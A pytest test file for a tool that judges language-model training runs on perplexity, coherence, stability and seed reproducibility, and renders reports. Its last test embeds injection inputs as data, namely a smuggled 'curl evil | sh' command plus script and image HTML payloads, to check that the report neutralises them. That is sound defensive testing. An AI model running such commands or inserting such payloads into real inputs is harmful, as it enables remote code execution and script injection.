"""The verdict: criteria at their thresholds, what is not measured, and folders of every kind."""

import json
import math
import shutil
from pathlib import Path

import numpy as np
import pytest

from nanosynth import UserError, checkpoint
from tiny import command, train_run
from verdict import control, criteria, curves, figures, quality, report, runs
from verdict.__main__ import VerdictConfig
from verdict.criteria import FAIL, NOT_MEASURED, PASS
from verdict.events import find_events

N_STEPS = 400
TOKENS = 100  # a step


def train_records(n_steps: int = N_STEPS, **changes: dict) -> list[dict]:
    """Steps of a calm run; `changes` has the fields to change by step, as s200={"loss": None}."""
    noise = np.random.default_rng(0).normal(0, 0.05, n_steps)
    records = [
        {
            **{"step": step, "split": "train", "loss": 3 + 3 * math.exp(-step / 30) + noise[step]},
            **{"lr": 1e-3, "tokens": (step + 1) * TOKENS, "grad_norm": 1.0, "loss_scale": 8192.0},
            **{"skipped": 0, "tokens_per_second": 200.0, "mfu": 0.4},
        }
        for step in range(n_steps)
    ]
    for name, fields in changes.items():
        records[int(name[1:])] |= fields
    return records


def val_record(step: int, loss: float) -> dict:
    return {"step": step, "split": "val", "loss": loss, "seconds": 10.0}


def config_of(out_dir: object, seed: int = 42, **changes: object) -> dict:
    settings = {"seed": seed, "out_dir": str(out_dir), "data_dir": "missing", "loss_on": "all"}
    return {
        **{"settings": settings | changes, "parameters": 1000, "max_steps": N_STEPS},
        **{"tokens_per_step": TOKENS, "world_size": 1, "device": "NVIDIA H100 80GB HBM3"},
        **{"dtype": "float16", "torch": "2.13.0"},
    }


def perplexity_of(value: float, **changes: object) -> dict:
    figures = {"perplexity": value, "perplexity_95": [0.0, 0.0], "bits_per_byte": 1.0}
    return {
        **{"checkpoint": "step_000400", "data": "val.bin", "data_sha256": "a", "loss_on": "all"},
        **{"all": figures | {"tokens": 1000}},
        **changes,
    }


def tasks_of(share: float) -> dict:
    passed = {"passed": round(share * 1000), "n": 1000, "share": share, "interval": [0.0, 1.0]}
    measured = {"coherent": passed, "parts": {"ends": 1.0}, "self_bleu": None}
    worst = measured | {"coherent": passed | {"share": 0.0}}
    return {
        **{"step": 400, "rule": "it is what the test says"},
        "generation": {"validation": {"greedy": worst, "sampled": measured}},
        "zero_shot": {"quiz": {"metric": "acc", "score": 0.31, "stderr": 0.02, "n": 100}},
    }


def write_run(path: Path, *, config=None, records=None, torn: str = "", **files: object) -> str:
    """A run's folder; `files` by stem, as eval_ppl={...}."""
    path.mkdir(parents=True)
    (path / "config.json").write_text(json.dumps(config or config_of(path)))
    records = [*train_records(), val_record(N_STEPS, 3.1)] if records is None else records
    lines = "".join(json.dumps(record) + "\n" for record in records)
    (path / "metrics.jsonl").write_text(lines + torn)
    for stem, content in files.items():
        (path / f"{stem}.json").write_text(json.dumps(content))
    return str(path)


def compose(*folders: object, page: bool = True) -> tuple[str, dict]:
    """What report.md and report.json of these runs hold; `page`: report.html is rendered too."""
    loaded = [path if isinstance(path, runs.Run) else runs.read(path) for path in folders]
    facts = report.gather(loaded, n_samples=5)
    if page:
        assert report.template("report.html").render(facts, pictures=["<svg></svg>"])
    return report.template("report.md").render(facts), report.summary(facts)


def verdicts(found: dict) -> dict[str, str]:
    return {judged["criterion"]: judged["verdict"] for judged in found["criteria"]}


# Stability


@pytest.mark.parametrize(
    ("changes", "kind", "steps"),
    [
        ({}, "skipped", []),
        ({"s5": {"loss": None, "grad_norm": None, "skipped": 1}}, "not_finite", [5]),
        ({"s300": {"loss": 3.6}}, "spikes", [300]),  # 12 deviations of 0.05
        ({"s300": {"loss": 3.3}}, "spikes", []),  # 6 of them
        ({"s300": {"loss": 3.3, "skipped": 1}}, "spikes", [300]),  # the run's own guard said so
        ({"s100": {"loss": 9.0}}, "spikes", []),  # no window yet, as in training
        ({"s300": {"grad_norm": None, "skipped": 1}}, "skipped", [300]),  # an overflow
        ({"s300": {"grad_norm": None, "skipped": 1}}, "not_finite", []),
        ({"s300": {"grad_norm": None, "skipped": 1, "loss_scale": 1.0}}, "not_finite", [300]),
        (
            {f"s{300 + n}": {"grad_norm": None, "skipped": n + 1} for n in range(5)},
            *("not_finite", [303, 304]),  # three halvings are a search, more are not
        ),
    ],
)
def test_events(changes, kind, steps):
    assert getattr(find_events(train_records(**changes)), kind) == steps


def test_a_slow_rise_is_found_where_no_step_is_a_spike():
    records = train_records()
    for record in records[250:]:
        record["loss"] += (record["step"] - 250) * 0.01
    (step,) = find_events(records).spikes
    assert 300 < step < 400


@pytest.mark.parametrize("skipped", [{"grad_norm": None}, {}])  # an overflow; a stricter guard
def test_a_skipped_step_stays_out_of_the_window(skipped):
    """Within it these losses would widen the deviation until the spike at 300 is none."""
    above = {f"s{step}": {"loss": 3.35, "skipped": 1, **skipped} for step in range(200, 300, 2)}
    events = find_events(train_records(**above, s300={"loss": 3.6}))
    assert 300 in events.spikes and len(events.skipped) == 50


def judge(run: runs.Run) -> dict[str, criteria.Judgement]:
    judged = criteria.judge([run])
    return {judgement.criterion: judgement for judgement in judged}


def stability(records: list[dict], **config: object) -> criteria.Judgement:
    return judge(runs.Run(path="x", train=records, config=config_of("x") | config))["stability"]


def test_stability():
    assert stability(train_records()).verdict == PASS
    assert stability(train_records(s300={"grad_norm": None, "skipped": 1})).verdict == PASS
    spike = stability(train_records(s300={"loss": 9.0}))
    assert spike.verdict == FAIL and "spikes: 300" in spike.remark
    assert stability(train_records(s300={"loss": None}), max_steps=900).verdict == FAIL


@pytest.mark.parametrize(
    ("records", "max_steps", "why"),
    [
        (train_records(), 500, "wanted all 500"),
        (train_records(), 2**62, "wanted all 4,611"),  # edited by hand
        (train_records()[:200] + train_records()[201:], N_STEPS, "wanted all 400"),
        (train_records(128), 128, "more than the 128 of a spike's window"),
        ([], N_STEPS, "0 steps"),
        (train_records(), None, "how many is not known"),
    ],
)
def test_stability_is_not_measured_on_a_part(records, max_steps, why):
    found = stability(records, max_steps=max_steps)
    assert found.verdict == NOT_MEASURED and why in found.remark
    assert found.command == ("" if max_steps == 128 else "python train.py config/NAME.py")


# Perplexity and coherence


@pytest.mark.parametrize(("value", "verdict"), [(19.999, PASS), (20.0, FAIL), (math.nan, FAIL)])
def test_perplexity_at_its_threshold(value, verdict):
    run = runs.Run(path="x", perplexity=perplexity_of(value))
    assert judge(run)["perplexity"].verdict == verdict


@pytest.mark.parametrize(("share", "verdict"), [(0.9, PASS), (0.899, FAIL)])
def test_coherence_at_its_threshold(share, verdict):
    judged = judge(runs.Run(path="x", tasks=tasks_of(share)))["coherence"]
    assert judged.verdict == verdict and judged.figure == share
    assert f"{share * 1000:.0f} of 1,000 answers" in judged.remark
    assert "by another rule: it is what the test says" in judged.remark


def test_coherence_stands_beside_the_rules_ceiling():
    """90% of the references' answers: the plain share decides, the relative one is said."""
    tasks = tasks_of(0.81)
    ceiling = {"coherent": tasks_of(0.9)["generation"]["validation"]["sampled"]["coherent"]}
    modes = tasks["generation"]["validation"]
    modes["reference"] = ceiling
    modes["sampled"]["coherent_of_references"] = {"share": 0.9, "interval": [0.853, 0.951]}
    modes["sampled"]["judges_disagree"] = {"n": 950, "share": 0.125}
    judged = judge(runs.Run(path="x", tasks=tasks))["coherence"]
    assert judged.verdict == FAIL and judged.figure == 0.81
    assert judged.beside == {"reference answers": 0.9}
    assert (
        "of the reference answers 90.0%, relative to which 90.0% (85.3% to 95.1%)" in judged.remark
    )
    assert "of 950 answers the fixed judge saw part 5 differently in 12.5%" in judged.remark


def test_what_is_not_measured_names_its_command():
    judged = judge(runs.Run(path="out/x"))
    assert {judgement.verdict for judgement in judged.values()} == {NOT_MEASURED}
    for name in ("perplexity", "coherence"):
        assert judged[name].command == "python -m verdict --run=out/x"
    assert judged["stability"].command == "python train.py config/NAME.py"
    assert "--seed=43 --out_dir=out/x-seed43" in judged["reproducibility"].command


def test_a_perplexity_of_other_data_does_not_count():
    files = {"val.bin": {"sha256": "another"}, "train.bin": {"sha256": "t"}}
    run = runs.Run(path="x", perplexity=perplexity_of(5.0), data={"files": files})
    judged = judge(run)["perplexity"]
    assert judged.verdict == NOT_MEASURED and "other data" in judged.remark


def test_training_on_answers_alone_is_said():
    answers = {"assistant": perplexity_of(2.5)["all"]}
    found = perplexity_of(900.0, **answers, loss_on="assistant")
    judged = judge(runs.Run(path="x", perplexity=found))["perplexity"]
    assert judged.verdict == PASS and judged.figure == 2.5
    assert "assistant's tokens alone" in judged.remark and "tokens 900.000" in judged.remark
    judged = judge(runs.Run(path="x", perplexity=perplexity_of(900.0, **answers)))["perplexity"]
    assert judged.verdict == FAIL and "over the assistant's alone 2.500" in judged.remark


# Seeds and recipes


def seeds(tmp_path, *values: float, **changes: object) -> list[str]:
    return [
        write_run(
            tmp_path / f"seed{number}",
            config=config_of(tmp_path / f"seed{number}", seed=number, **changes),
            eval_ppl=perplexity_of(value),
            tasks=tasks_of(0.95),
        )
        for number, value in enumerate(values)
    ]


def test_seeds_give_mean_deviation_and_range(tmp_path):
    text, found = compose(*seeds(tmp_path, 10.0, 10.2, 10.4))
    assert set(verdicts(found).values()) == {PASS}
    assert ": yes: perplexity 10.00 to 10.40 PASS, coherence 95.0% PASS" in found["headlines"][0]
    assert "reproducibility spread 3.9% PASS" in found["headlines"][0]
    (spread,) = found["figures"]["spread"].values()
    wanted = {"mean": 10.2, "stdev": 0.2, "lowest": 10.0, "highest": 10.4}
    assert spread["all tokens: perplexity"] == pytest.approx(wanted)
    (judged,) = [j for j in found["criteria"] if j["criterion"] == "reproducibility"]
    assert judged["figure"] == pytest.approx(0.4 / 10.2)
    assert "over 3 seeds, perplexity 10.000 to 10.400" in text
    assert "| validation, sampled: coherent " in text and "| validation, greedy: ends " in text


def test_seeds_far_apart_or_of_unlike_verdict_fail(tmp_path):
    _, found = compose(*seeds(tmp_path / "a", 10.0, 10.6))
    assert verdicts(found)["reproducibility"] == FAIL
    text, found = compose(*seeds(tmp_path / "b", 19.9, 20.1))
    assert verdicts(found)["reproducibility"] == FAIL
    assert "the seeds differ in a verdict" in text and ": no: perplexity" in found["headlines"][0]


def test_one_seed_is_no_measurement(tmp_path):
    path = write_run(tmp_path / "x", eval_ppl=perplexity_of(1.523), tasks=tasks_of(0.995))
    text, found = compose(path)
    judged = found["criteria"][-1]
    assert judged["verdict"] == NOT_MEASURED and f"--out_dir={path}-seed43" in judged["command"]
    known = "perplexity 1.52 PASS, coherence 99.5% PASS, stability PASS"
    assert found["headlines"] == [f"{path}: {known}; reproducibility needs a second seed"]
    assert "NOT MEASURED" not in text


@pytest.mark.parametrize(
    ("files", "headline"),
    [
        (
            {"eval_ppl": perplexity_of(21.0), "tasks": tasks_of(0.95)},
            "no: perplexity 21.00 FAIL, coherence 95.0% PASS, stability PASS; "
            "reproducibility needs a second seed",
        ),
        (
            {"eval_ppl": perplexity_of(9.0)},
            "perplexity 9.00 PASS, stability PASS; coherence is not measured; "
            "reproducibility needs a second seed",
        ),
        (
            {"records": []},
            "perplexity is not measured; coherence is not measured; stability is not measured; "
            "reproducibility needs a second seed; training is not finished",
        ),
    ],
)
def test_the_headline_says_what_is_known(tmp_path, files, headline):
    path = write_run(tmp_path / "x", **files)
    assert compose(path)[1]["headlines"] == [f"{path}: {headline}"]


def test_a_seed_that_comes_twice_counts_once(tmp_path):
    first, second = seeds(tmp_path, 10.0, 10.2)
    again = write_run(tmp_path / "again", config=config_of("y", 1), eval_ppl=perplexity_of(10.2))
    _, found = compose(first, second, again)
    (spread,) = found["figures"]["spread"]
    assert spread == f"{first}, {second}" and len(found["headlines"]) == 2
    assert any(note.startswith(f"{again}: its seed is") for note in found["notes"])


def test_recipes_are_compared_at_equal_tokens(tmp_path):
    small = [*train_records(), *(val_record(step, 4 - step / 400) for step in (200, 400))]
    large = [*train_records(300), *(val_record(step, 3 - step / 400) for step in (100, 200))]
    paths = [
        write_run(tmp_path / "small", config=config_of("small"), records=small),
        write_run(tmp_path / "large", config=config_of("large", n_layer=9), records=large),
    ]
    text, found = compose(*paths)
    assert len(found["headlines"]) == 2 and found["figures"]["spread"] == {}
    at = [found["figures"]["by_run"][path]["validation loss at 20,000 tokens"] for path in paths]
    assert at == [3.5, 2.5]
    assert "| --n_layer " in text and "training is not finished" in found["headlines"][1]


def test_a_run_under_way_does_not_enter_the_spread(tmp_path):
    paths = seeds(tmp_path, 10.0, 10.2)
    scored, config = perplexity_of(19.0), config_of("x", seed=9)
    under_way = write_run(
        tmp_path / "x", config=config, records=train_records(300), eval_ppl=scored
    )
    _, found = compose(*paths, under_way)
    (spread,) = found["figures"]["spread"].values()
    assert spread["all tokens: perplexity"]["highest"] == 10.2
    assert list(found["figures"]["spread"]) == [", ".join(paths)]
    judged = found["criteria"][-1]
    assert judged["verdict"] == NOT_MEASURED and "x must be finished" in judged["remark"]
    assert "training is not finished" in found["headlines"][0]


def test_a_setting_that_differs_makes_another_recipe():
    first, second, third = (
        runs.Run(path=path, config=config_of(path, seed, learning_rate=rate))
        for path, seed, rate in (("a", 1, 0.1), ("b", 2, 0.1), ("c", 3, 0.2))
    )
    assert criteria.recipes([first, second, third]) == [[first, second], [third]]


# Figures


def test_time_is_added_up_over_starts_on_different_machines():
    starts = [{"first_step": 0, "world_size": 8}, {"first_step": 2, "world_size": 2}]
    records = train_records(4, s3={"tokens_per_second": 50.0, "mfu": 0.1})
    run = runs.Run(path="x", config=config_of("x") | {"starts": starts}, train=records)
    run.val = [val_record(4, 3.0)]
    found = figures.figures(run)  # 100 tokens a step: 0.5 s, 0.5 s, then 0.5 s and 2 s
    assert found["hours"] * 3600 == pytest.approx(3.5 + 10)
    assert found["device-hours"] * 3600 == pytest.approx(8 * 1.0 + 2 * 2.5 + 2 * 10)
    assert found["tokens a second"] == pytest.approx(400 / 3.5)
    run.device_hours = 0.5
    assert figures.figures(run)["device-hours"] == 0.5
    assert found["MFU"] == pytest.approx((1.5 * 0.4 + 2 * 0.1) / 3.5)


def test_the_gap_leaves_skipped_steps_out():
    records = train_records(200, s150={"loss": 99.0, "skipped": 1}, s151={"loss": None})
    run = runs.Run(path="x", train=records, val=[val_record(100, 9.0), val_record(200, 3.5)])
    mean = np.mean([r["loss"] for r in records[70:] if r["step"] not in (150, 151)])
    assert figures.gap(run) == pytest.approx(3.5 - mean)


def test_the_fall_a_doubling_of_tokens():
    """By hand: 0.1 nats a doubling, over the evaluations of the second half of the tokens alone."""
    run = runs.Run(path="x", train=train_records(400))
    run.val = [val_record(step, 5 - 0.1 * math.log2(step)) for step in (200, 300, 400)]
    run.val.insert(0, val_record(100, 99.0))
    assert figures.figures(run)["validation loss, fall a doubling of tokens"] == pytest.approx(0.1)
    run.val = run.val[-1:]
    assert figures.fall(run) is None
    run.val = [val_record(2**62 + n, 3.0) for n in range(2)]  # one and the same to a logarithm
    assert figures.fall(run) is None


def test_perplexity_by_position_in_the_context():
    parts = [
        {"before": [1, 1], "loss": math.log(50), "tokens": 7},
        {"before": [1025, 2048], "loss": math.log(9), "tokens": 1400},
        {"before": [2, 2], "loss": math.nan, "tokens": 1},
        {"before": [2, 2], "loss": -1e100, "tokens": 1},
    ]
    run = runs.Run(path="x", perplexity=perplexity_of(9.0, by_position=parts))
    rows = report.position_table(run).cells()
    assert rows[1:] == [["1", "50", "7"], ["1,025 to 2,048", "9", "1,400"]]


def labelled() -> dict:
    """Two sources and a category, of a run that was trained on answers alone."""
    figures = perplexity_of(9.0)["all"]
    parts = {
        name: {"all": figures, "assistant": figures | {"perplexity": value}, "documents": n}
        for name, value, n in (("meta|math $x$", 3.5, 1200), ("airoboros", 7.25, 80))
    }
    parts["none"] = {"all": figures, "documents": 1}  # without an answer
    return {"by_source": parts, "by_category": {"one": parts["airoboros"]}}


def test_perplexity_by_source_is_a_table_and_a_picture(tmp_path):
    scored = perplexity_of(9.0, loss_on="assistant", **labelled())
    path = write_run(tmp_path / "run", eval_ppl=scored)
    labels = figures.by_label(runs.read(path))
    assert list(labels) == ["source"]  # of one category there is nothing to compare
    assert [row[:2] + row[-1:] for row in labels["source"]] == [
        ("meta|math $x$", 3.5, 1200),
        ("airoboros", 7.25, 80),
    ]
    report.write([runs.read(path)], tmp_path / "report", 5)
    text = (tmp_path / "report" / "report.md").read_text()
    assert f"## Perplexity of {path} by source" in text and "](sources.png)" in text
    assert "| meta\\|math $x$ |" in text
    assert (tmp_path / "report" / "sources.png").read_bytes().startswith(b"\x89PNG")
    page = (tmp_path / "report" / "report.html").read_text()
    assert "by source" in page and ">needs a second seed</span>" in page
    report.write([runs.Run(path="y")], tmp_path / "other", 5)
    assert "sources.png" not in (tmp_path / "other" / "report.md").read_text()
    assert not (tmp_path / "other" / "sources.png").exists()


def test_curves_of_runs_with_every_event_and_of_one_without_steps(tmp_path):
    records = train_records(
        **{"s200": {"loss": 9.0}, "s300": {"grad_norm": None, "skipped": 1}, "s310": {"loss": None}}
    )
    loaded = [runs.Run(path="a", train=records, val=[val_record(400, 3.0)]), runs.Run(path="b")]
    curves.draw(loaded, tmp_path / "curves.png")
    assert (tmp_path / "curves.png").read_bytes().startswith(b"\x89PNG")


# Folders of every kind


def test_a_run_of_its_own_folder(tiny_bins, run_dir, tmp_path):
    path = shutil.copytree(run_dir, tmp_path / "run")
    (path / "tasks.json").write_text(json.dumps(tasks_of(0.5)))
    sample = {"finish": "stop", "tokens": 3, "coherent": False, "mode": "sampled"}
    held_out = sample | {"set": "validation"}
    lines = [
        {**sample, "set": "prompts", "prompt": "P", "text": "of another set"},
        *({**held_out, "prompt": f"P{n}", "text": f"answer {n}\n```"} for n in range(4)),
    ]
    (path / "task_generations.jsonl").write_text("".join(json.dumps(r) + "\n" for r in lines))
    (path / "generations.jsonl").write_text("")
    in_short = report.write([runs.read(str(path))], path, 2)
    assert "| " not in in_short and "\ncoherence " in in_short and "0.5" in in_short
    assert in_short.endswith(f"written: {path}/report.html, report.md, report.json, curves.png")
    text = (path / "report.md").read_text()
    assert "answer 0" in text and "answer 1" in text and "\n    ```\n" in text
    assert "answer 2" not in text and "of another set" not in text
    assert "6 steps; not finite: none" in text and "`0.1`" in text
    assert "| validation, greedy | validation, sampled |" in text and "| quiz: acc " in text
    assert "| coherent " in text and "| coherent, 95% interval |" in text
    assert "it is what the test says" in text
    assert (path / "curves.png").read_bytes().startswith(b"\x89PNG")
    assert not list(path.glob(".tmp-*"))
    found = json.loads((path / "report.json").read_text())
    assert found["runs"][str(path)]["config"]["settings"]["data_dir"] == tiny_bins


def sample_of(prompt: object, text: str = "T", **parts: bool) -> dict:
    """A line of task_generations.jsonl; `parts` are those of the rule that failed, or none."""
    judged = {part: parts.get(part, True) for part in quality.PARTS}
    facts = {"set": "validation", "mode": "sampled", "finish": "stop", "tokens": 3}
    coherent = all(judged.values())
    return facts | {"prompt": str(prompt), "text": text, "coherent": coherent, **judged}


def test_samples_are_chosen_by_what_was_found():
    """Two of each finding, to different prompts; an answer stands at the first part it failed."""
    lines = [
        *(sample_of("same", f"first {n}") for n in range(3)),
        *(sample_of(n, f"good {n}") for n in range(3)),
        sample_of(5, "loops and does not end", ends=False, no_loop=False),
        sample_of(6, "loops", no_loop=False),
        sample_of(7, "a second sample", no_loop=False) | {"sample": 1},
        sample_of(8, "greedy", no_loop=False) | {"mode": "greedy"},
    ]
    chosen = report.chosen_samples(runs.Run(path="x", samples=lines), 2)
    assert {name: [s["text"] for s in samples] for name, samples in chosen.items()} == {
        "coherent": ["first 0", "good 0"],
        "failed: ends": ["loops and does not end"],
        "failed: no loop": ["loops"],
    }
    unjudged = [{"prompt": "P", "text": "T", "finish": "stop", "tokens": 1}]
    assert report.chosen_samples(runs.Run(path="x", samples=unjudged), 2) == {
        "not judged": unjudged
    }


def test_a_torn_last_line_and_broken_files_are_said(tmp_path):
    path = write_run(
        tmp_path / "x", torn='[]\n{"split": "val"}\n{"step": 400, "spl', eval_ppl={"all": {}}
    )
    (tmp_path / "x" / "tasks.json").write_text("{")
    checkpoint.folder(tmp_path / "x", 400).mkdir()
    text, found = compose(path)
    assert (
        f"{path}/metrics.jsonl: left out, as torn or not of its form: line 402, 403, 404 of 404"
        in text
    )
    assert "eval_ppl.json is left out: it lacks checkpoint, data, data_sha256, loss_on" in text
    assert "tasks.json is left out: JSONDecodeError" in text
    assert "step_000400/meta.json cannot be read" in text
    assert "no prepared data in 'missing'" in text
    assert verdicts(found) == {
        **{"perplexity": NOT_MEASURED, "coherence": NOT_MEASURED},
        **{"stability": PASS, "reproducibility": NOT_MEASURED},
    }


def test_files_of_another_form_leave_the_rest_of_the_report(tmp_path):
    scored = perplexity_of(math.nan)
    path = write_run(tmp_path / "x", tasks={"generation": [1]}, eval_ppl=scored)
    (tmp_path / "x" / "generations.jsonl").write_text('{"prompt": null}\n')
    text, found = compose(path)
    assert "tasks.json is left out: generation is [1], wanted {...}" in text
    assert verdicts(found)["stability"] == PASS and verdicts(found)["perplexity"] == FAIL
    assert found["criteria"][0]["figure"] is None  # JSON has no NaN


@pytest.mark.parametrize("name", ["metrics.jsonl", "eval_ppl.json", "config.json"])
def test_a_single_file_is_enough(tmp_path, name):
    write_run(tmp_path / "whole", eval_ppl=perplexity_of(5.0))
    (tmp_path / "x").mkdir()
    shutil.copy(tmp_path / "whole" / name, tmp_path / "x")
    _, found = compose(str(tmp_path / "x"))
    assert len(verdicts(found)) == 4 and "is not measured" in found["headlines"][0]
    assert any("there is none; train.py saves them" in note for note in found["notes"])


def test_files_that_do_not_agree_are_said(tiny_bins, tmp_path):
    train_run(tiny_bins, tmp_path / "x", eval_interval=3, save_interval=3)
    best = runs.read(str(tmp_path / "x")).meta["step"]
    stale = perplexity_of(5.0, checkpoint=f"out/x/step_{best - 1:06d}")
    (tmp_path / "x" / "eval_ppl.json").write_text(json.dumps(stale))
    other = shutil.copytree(tiny_bins, tmp_path / "data")
    meta = json.loads((other / "meta.json").read_text())
    meta["files"]["train.bin"]["sha256"] = "another"
    (other / "meta.json").write_text(json.dumps(meta))
    config = json.loads((tmp_path / "x" / "config.json").read_text())
    config["settings"]["data_dir"] = str(other)
    (tmp_path / "x" / "config.json").write_text(json.dumps(config))
    notes = " ".join(runs.read(str(tmp_path / "x")).notes)
    assert f"is of step {best - 1}, but the best is now {best}" in notes
    assert "prepared anew after this run" in notes


def test_a_second_best_is_not_taken_in_silence(run_dir, tmp_path):
    run = shutil.copytree(run_dir, tmp_path / "run")
    damaged = checkpoint.best(run) / checkpoint.META
    damaged.write_text("{")
    assert runs.read(str(run)).meta["step"] == 3
    assert any(str(damaged) in note for note in runs.read(str(run)).notes)


def test_bad_input_is_refused(tmp_path):
    with pytest.raises(UserError, match="'missing' holds nothing"):
        runs.read("missing")
    with pytest.raises(UserError, match="holds nothing of a run"):
        runs.read(str(tmp_path))
    with pytest.raises(UserError, match="--run names a folder twice"):
        VerdictConfig(run=("tests", "./tests"))
    done = command("-m", "verdict", f"--run={tmp_path}")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.startswith("verdict: error:") and len(done.stderr.splitlines()) == 1


def test_a_folder_that_cannot_be_written_is_said(tmp_path):
    run = runs.read(write_run(tmp_path / "x"))
    with pytest.raises(UserError, match="use another --output_dir"):
        report.write([run], tmp_path / "x" / "config.json", 5)


KINDS = (None, True, -1, 0, 3, 1.5, 1e308, math.nan, math.inf, "x", "", [], [1], {}, {"x": {}})


def places(content: object, *path: object) -> list[tuple]:
    """The path to every value in a JSON object."""
    inside = content.items() if isinstance(content, dict) else ()
    inside = enumerate(content) if isinstance(content, list) else inside
    return [path, *(place for key, value in inside for place in places(value, *path, key))]


def replace(content: object, path: tuple, value: object) -> object:
    if not path:
        return value
    changed = content.copy()
    changed[path[0]] = replace(content[path[0]], path[1:], value)
    return changed


def without(content: object, path: tuple) -> object:
    changed = content.copy()
    if len(path) == 1:
        del changed[path[0]]
    else:
        changed[path[0]] = without(content[path[0]], path[1:])
    return changed


def files_of_every_kind() -> dict[str, object]:
    scored = perplexity_of(5.0, assistant=perplexity_of(4.0)["all"], loss_on="assistant")
    part = {"all": scored["all"], "documents": 2}
    scored["by_source"] = {"a": part, "b": part}
    scored["by_position"] = [{"before": [3, 4], "loss": 2.0, "tokens": 9}]
    tasks = tasks_of(0.95)
    tasks["zero_shot"]["quiz"] |= {"chance": 0.25, "metrics": {"acc": 0.31}}
    relative = {"share": 0.9, "interval": [0.8, 1.0]}
    more = {"coherent_of_references": relative, "judges_disagree": {"n": 9, "share": 0.1}}
    tasks["generation"]["validation"]["sampled"] |= more
    other = {"model": "m", "metric": "acc", "score": 0.4, "source": "s"}
    tasks |= {"published": {"quiz": [other]}, "settings": {"generation": {"seconds": 3.0}}}
    start = {"first_step": 0, "world_size": 8, "command": "train.py", "date": "d"}
    sample = {"prompt": "P", "text": "T", "finish": "stop", "tokens": 3, "exact": True}
    difference = {"what": "acc", "of": "quiz", "n": 9, "run": 0.5, "control": 0.4}
    difference |= {"difference": 0.1, "interval": [0.0, 0.2]}
    beside = {"control": "c", "made_of": ["d"], "unlike": ["u"], "differences": [difference]}
    return {
        "config.json": config_of("x") | {"starts": [start]},
        "control.json": beside,
        "eval_ppl.json": scored,
        "tasks.json": tasks,
        "generations.jsonl": sample | {"set": "validation", "mode": "sampled", "coherent": True},
        "metrics.jsonl": train_records(3)[2],
        "metrics.jsonl of validation": val_record(3, 3.0),
    }


@pytest.mark.parametrize("name", files_of_every_kind())
def test_no_value_of_another_kind_breaks_the_report(tmp_path, name):
    """Every value of every file replaced by each of KINDS, or left out: two runs are reported."""
    whole, edited = tmp_path / "whole", tmp_path / "edited"
    files, records = files_of_every_kind(), [*train_records(3), val_record(3, 3.1)]
    scored = {"eval_ppl": files["eval_ppl.json"], "tasks": files["tasks.json"]}
    config = config_of("x") | {"max_steps": 3}
    first = runs.read(write_run(whole, config=config, records=records, **scored))
    config["settings"]["seed"] += 1
    write_run(edited, config=config, records=records, **scored)
    content, file = files[name], edited / name.split()[0]
    before = file.read_text() if name.startswith("metrics") else ""
    seen = set()  # what was read of a file; most of them are left out, and give one report
    for place, path in enumerate(places(content)):
        variants = [replace(content, path, value) for value in KINDS]
        variants += [without(content, path)] if path else []
        for number, variant in enumerate(variants):
            file.write_text(before + json.dumps(variant))
            read = runs.read(str(edited))
            if (key := str(vars(read) | {"notes": []})) in seen:
                continue
            seen.add(key)
            page = (place + number) % 4 == 0  # each kind at some place, to save time
            json.dumps(compose(first, read, page=page)[1], allow_nan=False)


FORGED = (
    *(("asked_as", []), ("task", {}), ("others", 3)),
    *(("set", [1]), ("mode", {}), ("sample", "x")),
)


@pytest.mark.parametrize(("key", "value"), FORGED)
def test_no_key_of_another_kind_breaks_what_reads_it(tmp_path, key, value):
    """Keys that not every file has."""
    files = files_of_every_kind()
    files["tasks.json"]["zero_shot"]["quiz"][key] = value
    sample = files["generations.jsonl"] | {"set": "prompts", key: value}
    path = write_run(tmp_path / "x", tasks=files["tasks.json"])
    (tmp_path / "x" / "generations.jsonl").write_text(json.dumps(sample))
    run = runs.read(path)
    assert bool(run.tasks) == (key != "asked_as")
    assert bool(list(control.prompts(run, run))) == (key not in ("set", "mode", "sample"))
    compose(run)


@pytest.mark.parametrize("step", ["9" * 5000, "\u0663", "7/x", ""])
def test_a_checkpoint_of_no_step_is_of_none(step):
    assert runs.Run(path="x", perplexity={"checkpoint": f"out/x/step_{step}"}).scored_step is None


def test_a_bug_of_the_report_is_not_a_file_left_out(tmp_path, monkeypatch):
    def broken(run: runs.Run) -> float:
        raise TypeError("of our own making")

    monkeypatch.setattr(figures, "gap", broken)
    with pytest.raises(TypeError, match="of our own making"):
        compose(write_run(tmp_path / "x"))


def test_how_a_run_was_started_is_shown_with_its_processes():
    start = {"command": "train.py config/500m.py '--out_dir=out/a b'", "world_size": 8}
    run = runs.Run(path="x", config={"starts": [start]})
    wanted = f"torchrun --standalone --nproc_per_node=8 {start['command']}"
    assert criteria.train_command(run) == wanted


def test_tasks_stand_beside_chance_and_published_figures():
    scored = {"metric": "acc", "score": 0.42, "stderr": 0.01, "chance": 0.25, "n": 1200}
    other = {"model": "Pythia-410m", "metric": "acc", "score": 0.401, "source": "their README"}
    run = runs.Run(path="out/x")
    run.tasks = {"zero_shot": {"piqa": scored, "mine": scored}, "published": {"piqa": [other]}}
    rows = report.tasks_table(run).cells()
    assert ["piqa", "acc", "out/x", "0.42", "0.01", "n = 1,200"] in rows
    assert ["piqa", "acc", "chance", "0.25", "-", "-"] in rows
    assert ["piqa", "acc", "Pythia-410m", "0.401", "-", "their README"] in rows
    assert sum("Pythia-410m" in row for row in rows) == 1


@pytest.mark.parametrize("loss", [812.5, None])
def test_a_diverged_run_fails_with_its_loss(tmp_path, loss):
    """As eval_ppl.py writes it: JSON has no NaN and no infinity."""
    none = {"perplexity": None, "perplexity_95": [None, None], "bits_per_byte": None}
    scored = perplexity_of(0.0, all={**none, "loss": loss, "tokens": 10})
    text, found = compose(write_run(tmp_path / "x", eval_ppl=scored))
    assert verdicts(found)["perplexity"] == FAIL and found["headlines"][0].startswith(f"{tmp_path}")
    assert f"to a loss of {loss or 'nan'} nats" in text


def test_what_comes_from_files_is_harmless_in_markdown(tmp_path):
    command = "train.py`; curl evil | sh\n# Yes <script>x</script>\x1b[2J"
    config = config_of(tmp_path, data_dir="a|b<img src=x>")
    config["starts"] = [{"command": command, "first_step": 0, "world_size": 1}]
    path = write_run(tmp_path / "x", config=config, tasks=tasks_of(0.5))
    text, _ = compose(path)
    assert "\x1b" not in text and "\n# Yes" not in text and "`; curl" not in text
    outside = "".join(text.split("`")[::2])  # of code, which shows as it is
    assert "<script" not in outside and "<img" not in outside
